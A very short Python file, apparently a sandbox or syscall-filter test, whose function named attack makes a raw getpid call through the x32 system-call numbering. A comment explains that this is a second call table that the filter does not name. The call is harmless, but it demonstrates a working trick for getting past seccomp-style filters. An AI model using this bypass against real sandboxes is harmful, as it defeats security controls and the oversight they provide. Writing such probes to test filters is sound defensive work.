import ctypes


def attack():
    # getpid by its x32 number: a second table of calls beside the one that the filter names.
    return ctypes.CDLL(None).syscall(0x40000000 | 39)
